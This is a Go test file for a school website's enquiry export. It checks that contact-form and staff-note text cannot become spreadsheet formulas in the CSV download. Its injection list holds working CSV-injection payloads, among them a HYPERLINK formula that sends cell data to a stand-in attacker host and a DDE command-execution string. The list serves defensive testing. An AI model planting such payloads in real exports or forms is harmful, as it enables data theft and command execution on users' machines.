package api_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"schoolsite/internal/api"
	"schoolsite/internal/school"
)

// sheet is an export as a spreadsheet opens it: rows of cells, after the names
// of the columns.
func (d *desk) sheet(t *testing.T, query string) [][]string {
	t.Helper()
	w := d.json("staff", "GET", "/api/enquiries/export?format=csv&"+query, "")
	text, marked := strings.CutPrefix(w.Body.String(), "\ufeff")
	if w.Code != 200 || !marked {
		t.Fatalf("%s: %d %.200s", query, w.Code, w.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows[0]) != 16 {
		t.Fatalf("%s: %v: %q", query, err, rows)
	}
	return rows[1:]
}

// injections are what a spreadsheet might run, or lose its columns by.
var injections = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", `=HYPERLINK("https://evil.example?"&A1,"Fees")`, `=cmd|'/C calc'!A0`, "'=1", `"=1"`, `a","=1","b`,
	`=1","=2`, "a;=1", "a\t=1", "=1\t=2", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫1", "|calc", "%0A=1", "\u200b=1", "\u00a0x=1",
	"ಆಶಾ, \"A\"", "😀=1", "=ಆಶಾ", "first\n=2", "first\r\n=2", "first\r=2", "a,b", `""`, `\"`, "#REF!", "NULL", "1E9",
}

// formulaMarks are what no cell may begin with.
const formulaMarks = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫"

// guarded is how a cell reads that somebody typed.
func guarded(typed string) string {
	typed = strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(strings.TrimSpace(typed))
	if strings.ContainsRune(formulaMarks, []rune(typed)[0]) {
		return "'" + typed
	}
	return typed
}

// inAddress is what of a text may stand before the @ of an e-mail address.
func inAddress(text string) string {
	return strings.Map(func(r rune) rune {
		if strings.ContainsRune("=+-'|{}`!#$%&*/?^_~1ac", r) {
			return r
		}
		return -1
	}, text)
}

// What a stranger types into any field is a text in the office's spreadsheet,
// and every cell is what was typed.
func TestEnquiryExport_NoCellIsAFormula(t *testing.T) {
	d := newDesk(t)
	typed := map[string]school.Enquiry{} // by ID
	for i, payload := range injections {
		d.Clock.Move(time.Hour)
		form := school.ContactForm{Name: payload, Email: inAddress(payload) + fmt.Sprint(i) + "@mail.example", Phone: "+91 98450-12345", Message: payload + " and more than ten letters"}
		if strings.ContainsAny(payload, "\r\n\t") {
			form.Name = "Asha" // a name is one line, as the last part of this test shows
		}
		body, err := json.Marshal(form)
		if err != nil {
			t.Fatal(err)
		}
		if w := d.json("", "POST", "/api/contactus", string(body)); w.Code != http.StatusCreated {
			t.Fatalf("%q: %d %s", payload, w.Code, w.Body)
		}
		for _, e := range append(d.box(t, "limit=1").Data, d.box(t, "limit=1&state=spam").Data...) {
			if _, seen := typed[e.ID]; !seen {
				typed[e.ID] = school.Enquiry{Name: form.Name, Email: form.Email, Message: form.Message}
				d.patch(t, e.ID, `{"note":`+string(mustJSON(t, payload))+`}`)
			}
		}
	}
	d.confirm(t, "staff")
	rows := append(d.sheet(t, ""), d.sheet(t, "state=spam")...)
	if len(rows) != len(injections) || len(typed) != len(injections) {
		t.Fatalf("%d rows of %d enquiries that were sent %d times", len(rows), len(typed), len(injections))
	}
	for _, row := range rows {
		want := typed[row[13]]
		if row[1] != guarded(want.Name) || row[2] != guarded(want.Email) || row[3] != "9845012345" || row[4] != guarded(want.Message) {
			t.Errorf("%q of %+v", row, want)
		}
		payload := strings.TrimSuffix(want.Message, " and more than ten letters")
		if _, note, _ := strings.Cut(row[6], ": "); "'"+note != guarded(payload) && note != guarded(payload) {
			t.Errorf("a note of %q is %q", payload, row[6])
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune(formulaMarks, []rune(cell)[0]) {
				t.Errorf("a cell begins with %q", cell)
			}
		}
	}
	for _, name := range []string{"Asha\n=1", "Asha\r=1", "Asha\t=1", "Asha\u2028=1", "Asha\u202e=1"} {
		body := `{"name":` + string(mustJSON(t, name)) + `,"email":"a@mail.example","phonenumber":"9845012345","message":"ten letters and more"}`
		if answer := read[api.ErrorBody](t, d.json("", "POST", "/api/contactus", body), 422); answer.Fields["name"] == "" {
			t.Errorf("%q: %+v", name, answer)
		}
	}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// What others than the visitor wrote into an enquiry is a text, too.
func TestEnquiryExport_NoStaffTextIsAFormula(t *testing.T) {
	d := newDesk(t)
	at := d.Clock.Now().UTC()
	d.boxed(t, school.Enquiry{Name: "Asha", Phone: "9845012345", State: school.DoneEnquiry, Mail: school.MailRefused, MailError: "=1+1\r\n550 no", From: "192.0.2.1",
		OpenedAt: at, DoneAt: at.Add(time.Minute), Spam: "-spam", Assignee: "=x", CallBackOn: "2026-11-25", Unmailed: []school.MailRefusal{{Address: "@a", Reply: "+1"}},
		Notes: []school.EnquiryNote{{At: at, By: "=x", Text: "=1"}, {At: at, By: "b", Text: "two\nlines"}}})
	row := d.sheet(t, "state=spam")[0]
	want := []string{"2026-11-20 09:00:00", "Asha", "", "9845012345", "", "done", "2026-11-20 09:00:00 =x: =1\n2026-11-20 09:00:00 b: two\nlines", "'-spam",
		"refused", "'=1+1\n550 no\n@a: +1", "2026-11-20 09:00:00", "2026-11-20 09:01:00", "192.0.2.1", "'=x", "2026-11-25"}
	if row = slices.Delete(row, 13, 14); fmt.Sprintf("%q", row) != fmt.Sprintf("%q", want) { // but the ID
		t.Errorf("\n%q\nwant\n%q", row, want)
	}
}

func TestEnquiryExport_HasEveryColumn(t *testing.T) {
	const many = 250 // more than two pages
	d := newDesk(t)
	var all []school.Enquiry
	for i := range many {
		all = append(all, school.Enquiry{Name: fmt.Sprint("no.", i), Email: "asha@mail.example", Message: "ಶಾಲೆ"})
	}
	all[0].Spam, all[1].State, all[2].Phone = "too fast", school.DoneEnquiry, "9845012345"
	d.boxed(t, all...)
	for query, want := range map[string]int{
		"": many - 1, "limit=7": many - 1, "state=spam": 1, "state=done": 1, "q=no.24": 11, "person=asha@mail.example": many, "person=9845012345": 1, "state=in-hand": 0,
	} {
		if rows := d.sheet(t, query); len(rows) != want {
			t.Errorf("%q: %d rows, want %d", query, len(rows), want)
		}
		var list []school.Enquiry
		w := d.json("staff", "GET", "/api/enquiries/export?format=json&"+query, "")
		if err := json.Unmarshal(w.Body.Bytes(), &list); err != nil || len(list) != want || w.Header().Get("Content-Type") != "application/json" {
			t.Errorf("%q: %d enquiries, %v", query, len(list), err)
		}
		if got := w.Header().Get("Content-Disposition"); got != `attachment; filename="enquiries-2026-11-20.json"` || w.Header().Get("Cache-Control") != "no-store" {
			t.Errorf("%q: %v", query, w.Header())
		}
	}
	for _, query := range []string{"", "format=xlsx", "format=CSV", "format=csv&state=eaten", "format=json&unread=x"} {
		w := d.json("staff", "GET", "/api/enquiries/export?"+query, "")
		if read[api.ErrorBody](t, w, 422); w.Header().Get("Content-Disposition") != "" {
			t.Errorf("%s: a refusal is a download", query)
		}
	}
	var file strings.Builder
	err := d.client(t).Download(t.Context(), api.ExportEnquiries.With(api.EnquiryQuery{Person: "asha@mail.example", Limit: 3, Format: "csv"}), &file)
	if err != nil || strings.Count(file.String(), "no.") != many {
		t.Errorf("%d, %v", strings.Count(file.String(), "no."), err)
	}
}
